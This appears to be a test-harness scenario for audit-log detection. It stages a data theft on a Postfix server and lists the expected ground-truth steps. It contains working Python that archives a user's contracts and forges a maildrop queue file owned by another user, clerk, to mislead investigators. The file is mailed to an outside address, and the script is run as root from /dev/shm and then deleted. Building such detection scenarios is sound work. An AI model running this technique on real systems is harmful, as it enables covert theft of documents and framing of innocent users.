title="A queue file written straight into the maildrop, papers inside"
what="With the key of ops somebody gets root by sudo and lets a small Python program pack buyer's contracts and write a complete queue file into Postfix's maildrop, owned by clerk to lead astray. No mail program runs; pickup finds the file, and Postfix sends it to an outside address."
host=mx1.example.org user=ops daemons="cron sshd" audit_format=RAW
setup() {
  echo 'ops ALL=(root) NOPASSWD: ALL' > /etc/sudoers.d/ops; chmod 440 /etc/sudoers.d/ops
  user=buyer documents
  own_file /home/ops/u.py <<'P'
import base64, io, os, pwd, sys, tarfile, time
raw = io.BytesIO()
with tarfile.open(fileobj=raw, mode='w:gz') as t:
    t.add('/home/buyer/contracts', 'c')
text = base64.encodebytes(raw.getvalue()).decode().split('\n')
def rec(kind, data=b''):
    n, size = len(data), b''
    while True:
        b = n & 0x7f; n >>= 7
        size += bytes([b | (0x80 if n else 0)])
        if not n: break
    return kind.encode() + size + data
who = pwd.getpwnam('clerk')
out = rec('T', str(int(time.time())).encode()) + rec('A', b'rewrite_context=local') + rec('F', b'clerk') + rec('S', b'clerk@example.org') + rec('R', b'h.lindner61@example.com') + rec('M')
for line in ['From: clerk@example.org', 'To: h.lindner61@example.com', 'Subject: holiday pictures', 'MIME-Version: 1.0', 'Content-Type: application/gzip; name=p.tgz', 'Content-Transfer-Encoding: base64', ''] + text:
    out += rec('N', line.encode())
out += rec('X') + rec('E')
name = '/var/spool/postfix/maildrop/%X%X' % (int(time.time() * 1000) & 0xffffff, os.getpid())
fd = os.open(name, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600)
os.write(fd, out); os.fchown(fd, who.pw_uid, who.pw_gid); os.fchmod(fd, 0o744); os.close(fd)
P
}
act() {
  small_talk 3
  ssh_run clerk 'echo "minutes follow" | mail -s "Minutes" partner4@example.net'
  ssh_run ops 'id; sudo -n true; ls /home/buyer 2>/dev/null; mv u.py /dev/shm/.u; sudo python3 /dev/shm/.u; rm -f /dev/shm/.u'
  wait_log 'to=<h.lindner61@example.com>.*status=sent' 75
  ssh_run ops 'sudo tail -2 /var/log/mail.log'
  small_talk 2
}
truth() {
  exec_step start 'python3 /dev/shm/.u' 'the program is started as root'
  file_step papers 'python3.* openat:read NORMAL .*contracts/c1.txt' 'papers are read'
  file_step queue 'python3.* openat:write CREATE .*/var/spool/postfix/maildrop/' 'a queue file is written'
  mail_step sent 'to=<h.lindner61@example.com>.*status=sent' 'Postfix sends it'
}
